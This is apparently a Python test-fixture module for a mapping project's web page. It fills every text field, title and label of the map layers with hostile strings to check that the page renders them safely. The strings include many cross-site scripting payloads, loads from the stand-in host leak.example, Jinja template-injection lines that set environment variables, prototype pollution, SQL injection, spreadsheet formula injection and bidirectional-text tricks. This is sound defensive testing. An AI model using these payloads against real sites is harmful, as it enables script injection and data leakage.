"""Texts that would do harm if they were ever taken for more than text, and layers with one in every field."""

import dataclasses
import json
import random
import re
import unicodedata
import zlib
from functools import cache
from pathlib import Path
from typing import Annotated

from pydantic import BaseModel, TypeAdapter, ValidationError, create_model
from shapely import LineString, Point

from geo.history.derive import Derived
from geo.inputs import schema
from geo.inputs.catalog import CATALOGUE, DerivedSpec, LayerSpec, Style, Symbol
from geo.inputs.frames import computed_frame, json_rows
from geo.inputs.layers import Feature

# What a template sets in the environment of the build if it ever renders one of these.
MARK = "GEO_SSTI"
_ENVIRON = "__init__.__globals__.os.environ.__setitem__"

HOSTILE = [
    # Markup: elements, handlers, and what closes the element that it may stand in.
    "<script>HIT('script')</script>",
    "</script><script>HIT('closed')</script>",
    "<ScRiPt src=https://leak.example/a.js></sCrIpT>",
    '<img src=x onerror="HIT(1)"><svg onload=HIT(2)>',
    "<img src=https://leak.example/pixel.gif>",
    "<svg><script>HIT('svg')</script><animate onbegin=HIT('svg') attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.HIT(1)</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=HIT('mutated')>",
    "<iframe srcdoc=\"&lt;script&gt;parent.HIT('srcdoc')&lt;/script&gt;\"></iframe>",
    "<iframe src=javascript:parent.HIT('frame')></iframe>",
    "<object data=javascript:HIT('object')></object><embed src=https://leak.example/e.swf>",
    "<body onload=HIT('body')><input autofocus onfocus=HIT('focus')>",
    "<details open ontoggle=HIT('toggle')><summary>x</summary></details>",
    "<video src=https://leak.example/v.mp4 onerror=HIT('video')><audio src=x onerror=HIT('audio')>",
    "<a href=\"javascript:HIT('link')\">source</a>",
    "<form action=https://leak.example><button formaction=javascript:HIT('form')>send</button></form>",
    "<base href=https://leak.example/><link rel=stylesheet href=https://leak.example/s.css>",
    "<meta http-equiv=refresh content='0;url=https://leak.example/'>",
    "<link rel=preconnect href=https://leak.example><link rel=prefetch href=https://leak.example/p>",
    "</title></textarea></noscript></style></template></select></dialog><img src=x onerror=HIT('end')>",
    "<!--<script>",
    "--><img src=x onerror=HIT('comment')><!--",
    "<![CDATA[<script>HIT('cdata')</script>]]>",
    "<plaintext><xmp><template><noscript>",
    "<b onmouseover=HIT('over') style=position:fixed;inset:0>",
    "&lt;img src=x onerror=HIT('entity')&gt; &amp;lt; &#60;b&#62; &nbsp &copy",
    # Attributes, addresses and styles.
    '" autofocus tabindex=1 onfocus="HIT(\'attribute\')" x="',
    "' onmouseover='HIT(1)' x='",
    "javascript:HIT('address')",
    "JaVaScRiPt://example.org/%0aHIT('address')",
    "data:text/html,<script>HIT('data')</script>",
    "vbscript:HIT(1)",
    "//leak.example/protocol-relative",
    "x;background:url(https://leak.example/b.png)",
    "</style><style>@import 'https://leak.example/i.css';*{background:url(//leak.example/c)}",
    "expression(HIT('style'))",
    # Scripts.
    "${HIT('template')}",
    "`+HIT('backtick')+`",
    "\\`+HIT('escaped')+\\`",
    "\"+HIT('joined')+\"",
    "'-HIT('joined')-'",
    "*/HIT('comment')/*",
    "\\u003cscript\\u003eHIT('unicode')\\u003c/script\\u003e \\x3cb\\x3e \\",
    "]}');HIT('call');({a:['",
    "constructor",
    "__proto__",
    "toString hasOwnProperty valueOf",
    '{"__proto__": {"polluted": true}}',
    # Templates: what would be seen, what would set the environment, what would never end.
    "{{ 7 * 7 }}{% raw %}{# gone #}{{{{ 8 * 8 }}}}",
    f"{{{{cycler.{_ENVIRON}('{MARK}','x')}}}}",
    f"{{% for x in 'ab' %}}{{{{ cycler.{_ENVIRON}('{MARK}','x') or 'SSTI' }}}}{{% endfor %}}",
    f"{{%if cycler.{_ENVIRON}(dict({MARK}=1)|first,dict(x=1)|first)%}}{{%endif%}}",
    f"{{% set x = lipsum.__globals__.os.environ.update({MARK}='x') %}}",
    "{% endmacro %}{% endblock %} {{ unclosed",
    "{% macro html(this, kwargs) %}",
    "{#",
    "@@data@@ @@page.js@@ @@title@@",
    "%(title)s %s %d %% {0} {title!r} {0.__class__}",
    "{n} {day} {name} {words} {publisher} {licence} {constructor} {}",
    "$& $1 $` $' $$ $<name> \\1 \\g<0>",
    "#{HIT} <%= HIT %> [[HIT]] ${{HIT}}",
    # Languages and letters.
    "سَرَاقِب — الطَّرِيقُ الدَّوْلِيّ M4 (إم ٤)، «نقطة» رقم ٩؛",
    "سراقب <b>Saraqib</b> 12 km שלום ٣٤%",
    "İstanbul ılık ışık Iğdır Şükrü ǅ ﬁ ß ẞ",
    "\u0301\u0489 lone marks \u0651",
    "a" + "\u0316\u0317\u0318\u0319" * 20,
    "👩🏽‍🚀🏳️‍🌈🇸🇾 𝔘𝔫𝔦 \U0001f9ff \ue000".replace("\u200d", "\u200c"),
    "“”‘’«»„‚‹›\"'`´ ＜script＞HIT(1)＜/script＞ ﹤b﹥",
    "line one\nline two\tand a tab",
    "W" * 300,
    "الطريق" * 60,
    "' OR 1=1; DROP TABLE layers; --",
    '=HYPERLINK("https://leak.example","x")',
    "-1+1|cmd'!A0",
    "null",
    "undefined",
    "0",
]


def hostile_names(count):
    """Return so many names that together hold every text."""
    return [" ".join(HOSTILE[at::count]) for at in range(count)]


# The schema refuses these. The page must be safe without that wall, too.
REFUSED = [
    "noncharacters \ufdd0 \ufffe \U0010ffff",
    "سراقب \u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "one\u2028two\u2029three",
    " \x01JaVa\tScRiPt:HIT('control')",
    "\ufeff<script>HIT('mark')</script>\r\n",
    "zero\u200bwidth\x7f\x85",
    "\x1b[31m<img src=x onerror=HIT('escape')>\x08",
    "",
]

_FRAGMENTS = [
    *("<script>", "</script>", "<img src=x onerror=HIT(9)>", "<svg/onload=HIT(8)>", "<!--", "-->", "<![CDATA[", "]]>"),
    *("{{", "}}", "{%", "%}", "{#", "#}", "${", "}", "{", "@@data@@", "{n}", "{name}", "{{7*7}}", "{% raw %}", "%s"),
    *('"', "'", "`", "\\", "\\n", "\\u003c", "&lt;", "&amp;", "&", "<", ">", "/", "*/", "/*", "//", ";", "="),
    *("$&", "$1", "$`", "$'", "$$", "HIT(7)", "'+HIT(6)+'", "`+HIT(5)+`", "javascript:HIT(4)", "onerror=HIT(3)"),
    *("https://leak.example/x", "url(https://leak.example/y)", "__proto__", "constructor", "\n", "\t", " ", " "),
    *("سراقب", "إدلب", "الطَّرِيق", "«", "»", "،", "؛", "٣٤", "ـ", "شلوم שלום", "\u0651", "\u0301", "م4"),
    *("Serakıb", "İ", "ı", "Saraqib", "Ain al-Hawr", "é", "e\u0301", "ﷺ", "中文", "🏽", "🇹🇷", "𝔸", "—", "W" * 30),
]  # fmt: skip

_CASES = Path(__file__).resolve().parents[3] / "shared" / "cases" / "texts.json"


def generated(count, seed=20200305):
    """Return so many different texts that the schema accepts, the same on every run."""
    hand = random.Random(seed)
    found = {}
    while len(found) < count:
        pieces = hand.choices(_FRAGMENTS, k=hand.randint(2, 9))
        text = unicodedata.normalize("NFC", "".join(pieces)).strip()
        if text:
            found[text] = None
    return list(found)


def beside():
    """Return the texts of the cases beside the repository, where they are at hand."""
    return [case["v"] for case in json.loads(_CASES.read_text(encoding="utf-8"))] if _CASES.is_file() else []


GENERATED = generated(500)
TEXTS = list(dict.fromkeys([*HOSTILE, *filter(None, REFUSED), *beside(), *GENERATED]))


def text_for(field, row):
    """Return the text of a field in a row: fields begin at different places, and as many rows hold every text."""
    return TEXTS[(zlib.crc32(field.encode()) + row) % len(TEXTS)]


def _address_for(field, row):
    """Return a hostile text as it is, and one of the others within what the schema takes for an address."""
    text = text_for(field, row)
    return "https://leak.example/" + re.sub(r"[\s<>\"]", "", text) if text in GENERATED else text


# ---- Which fields take texts ----

_TRIALS = {"text": "Any text, at all!", "texts": ("Any text, at all!",), "address": "https://example.org/any"}


@cache
def text_columns(record):
    """Return the columns in which the schema allows any text, with the kind: text, texts or address."""
    found = {}
    for column, field in record.model_fields.items():
        taken = [kind for kind, value in _TRIALS.items() if _takes(field, value)]
        if taken:
            found[column] = taken[0]
    return found


def _takes(field, value):
    try:
        TypeAdapter(Annotated[field.annotation, None, *field.metadata]).validate_python(value)
    except ValidationError:
        return False
    return True


@cache
def _closed_columns():
    """Return the columns that hold no free text in any record: ids, dates, grades, classes."""
    records = [spec.record for spec in CATALOGUE if spec.record]
    free = {column for record in records for column in text_columns(record)}
    return {column for record in records for column in record.model_fields} - free


def derived_text_columns(spec, features):
    """Return the columns of a computed layer that hold texts, by what they hold."""
    held = {name for one in features for name, value in one.properties.items() if isinstance(value, str)}
    own = text_columns(spec.record) if spec.record else {}
    in_a_title = {"stated_by", "stated_on"}  # of patrolled_by, among other words
    return sorted((held | set(own)) - _closed_columns() - in_a_title - {spec.style.by if spec.style else ""})


# ---- Layers with a text in every field ----


def spoilt_model(model, field, row):
    """Return a record or a term with a text in every field that takes one, however deep."""
    update = {}
    kinds = text_columns(type(model))
    for column in type(model).model_fields:
        path, value = f"{field}.{column}", getattr(model, column)
        if kind := kinds.get(column):
            update[column] = _spoilt_value(kind, value, path, row)
        elif isinstance(value, BaseModel):
            update[column] = spoilt_model(value, path, row)
        elif isinstance(value, tuple) and value and isinstance(value[0], BaseModel):
            update[column] = tuple(spoilt_model(one, path, row + place) for place, one in enumerate(value))
    return model.model_copy(update=update)


def _spoilt_value(kind, value, path, row):
    if kind == "texts":
        return tuple(text_for(path, row + place) for place in range(len(value)))
    return (_address_for if kind == "address" else text_for)(path, row)


def _multiplied(rows, at_least):
    """Yield the rows, numbered, and then copies of them until there are enough."""
    for number in range(max(len(rows), at_least) if rows else 0):
        yield number, rows[number % len(rows)], number >= len(rows)


def _place_of_a_copy(layer, features, feature):
    """Return where a copy lies, so that a page of thousands stays light: nowhere if a feature may, else far away."""
    if any(one.geometry is None for one in features):
        return None
    at = feature.geometry.representative_point() if layer == CATALOGUE[0].name else Point(0, 0)  # the ground stays
    if "Polygon" in feature.geometry.geom_type:
        return at.buffer(0.001, quad_segs=1)
    return LineString([at, (at.x + 0.001, at.y)]) if "Line" in feature.geometry.geom_type else at


def spoilt_layers(layers, at_least=0):
    """Return the layers with a text in every field; with as many rows as there are texts, each stands in each."""
    sources = [f"{row.properties.id}x{number}" if is_copy else row.properties.id
               for number, row, is_copy in _multiplied(layers["sources"].features, at_least)]  # fmt: skip

    def spoilt(name, features, number, feature, is_copy):
        row = spoilt_model(feature.properties, name, number)
        if not is_copy:
            return Feature(row, feature.geometry)
        update = {"id": f"{row.id}x{number}"}
        if hasattr(row, "sources"):
            update["sources"] = (sources[number % len(sources)],)
        return Feature(row.model_copy(update=update), _place_of_a_copy(name, features, feature))

    changed = {
        name: dataclasses.replace(
            layer, features=tuple(spoilt(name, layer.features, *one) for one in _multiplied(layer.features, at_least))
        )
        for name, layer in layers.items()
    }
    return dataclasses.replace(
        layers,
        by_name=changed,
        agreement=spoilt_model(layers.agreement, "agreement", 0),
        catalogue=tuple(map(_spoilt_spec, layers.catalogue)),
    )


def spoilt_derived(derived, catalogue, at_least=0):
    """Return what was computed with a text in every field and in every figure."""
    specs = [spec for spec in catalogue if isinstance(spec, DerivedSpec)]
    layers = {spec.name: _spoilt_frame(spec, derived.layers[spec.name], at_least) for spec in specs}
    figures = tuple(
        dataclasses.replace(figure, id=f"{figure.id}x{number}" if is_copy else figure.id,
                            **{name: text_for(f"facts.{name}", number) for name in ("title", "unit", "how")})
        for number, figure, is_copy in _multiplied(derived.facts.figures, at_least)
    )  # fmt: skip
    return Derived(layers, derived.histories, dataclasses.replace(derived.facts, figures=figures))


def _spoilt_frame(spec, frame, at_least):
    features = features_of(frame)
    columns = derived_text_columns(spec, features)
    rows, geometries = [], []
    for number, feature, is_copy in _multiplied(features, at_least):
        # Why something is not drawn is told of what is not drawn only: a gap stays a gap where there is a geometry.
        geometry = _place_of_a_copy(spec.name, features, feature) if is_copy else feature.geometry
        filled = [name for name in columns if not geometry or isinstance(feature.properties.get(name), str)]
        texts = {name: text_for(f"{spec.name}.{name}", number) for name in filled}
        id_ = {"id": f"{feature.properties['id']}x{number}"} if is_copy else {}
        rows.append({**feature.properties, **id_, **texts})
        geometries.append(geometry)
    return computed_frame(spec.name, rows, geometries)


def features_of(frame):
    """Return the rows of a frame as features."""
    return [Feature(row, geometry) for row, geometry in zip(json_rows(frame), frame.geometry, strict=True)]


# ---- A catalogue with a text in every title and label ----


def layer_for_every_text(derived):
    """Return specs of layers whose titles, labels and titles of columns are every text, and what they hold."""
    specs = tuple(map(_extra_spec, range(len(TEXTS))))
    features = {spec.name: computed_frame(spec.name, [{"id": spec.name, "note": "A note."}], [None]) for spec in specs}
    return specs, dataclasses.replace(derived, layers={**derived.layers, **features})


def _spoilt_spec(spec):
    record = spec.record and _with_titles(spec.record, lambda title: text_for(f"column.{title}", 0))
    style = spec.style and dataclasses.replace(
        spec.style,
        symbols={
            class_: dataclasses.replace(symbol, label=text_for(f"{spec.name}.symbol", place))
            for place, (class_, symbol) in enumerate(spec.style.symbols.items())
        },
    )
    return dataclasses.replace(spec, title=text_for(f"{spec.name}.title", 0), record=record, style=style)


def _extra_spec(number):
    record = _with_titles(schema.Sourced, lambda _: text_for("extra.column", number))
    symbol = Symbol(text_for("extra.symbol", number), stroke="#222222")
    title = text_for("extra.title", number)
    return DerivedSpec(f"extra_{number}", title, Style({"": symbol}, shown=False), record)


def _with_titles(record, title_of):
    changed = create_model(record.__name__, __base__=record)
    for column, field in changed.model_fields.items():
        field.title = title_of(field.title or column)
    return changed


# ---- What the page is to show ----


def rows_of(spec, layers, derived):
    """Return the properties of every feature of a layer as the page is given them, without what is unknown."""
    if isinstance(spec, LayerSpec):
        return dumped(layers[spec.name])
    rows = json_rows(derived.layers[spec.name])
    return [{name: value for name, value in row.items() if value is not None} for row in rows]


def expected(spec, layers, derived):
    """Return what the details of each feature must show: its texts, the titles of its columns, its sources' texts."""
    sources = {row["id"]: row for row in dumped(layers["sources"])}
    features = features_of(derived.layers[spec.name]) if isinstance(spec, DerivedSpec) else ()
    columns = text_columns(spec.record) if isinstance(spec, LayerSpec) else derived_text_columns(spec, features)
    return [
        {
            "layer": spec.name,
            "id": row["id"],
            "texts": [text for name in columns if name in row for text in _texts_in(row[name])],
            "titles": [spec.title, *_titles_of(spec, row)],
            "sources": [
                sources[id_][name]
                for id_ in row.get("sources", ())
                for name in ("title", "publisher")
                if name in sources[id_]
            ],
        }
        for row in rows_of(spec, layers, derived)
    ]


def dumped(layer):
    """Return the known properties of every row of a layer."""
    return [row.properties.model_dump(mode="json", exclude_none=True) for row in layer.features]


def _texts_in(value):
    return value if isinstance(value, list) else [value]


def _titles_of(spec, row):
    """Return the titles of the columns that a row fills; names and sources have no title of their own."""
    if not spec.record:
        return []
    shown = [name for name in row if name not in ("id", "sources") and not name.startswith("name_")]
    return [spec.record.model_fields[name].title for name in shown if name in spec.record.model_fields]
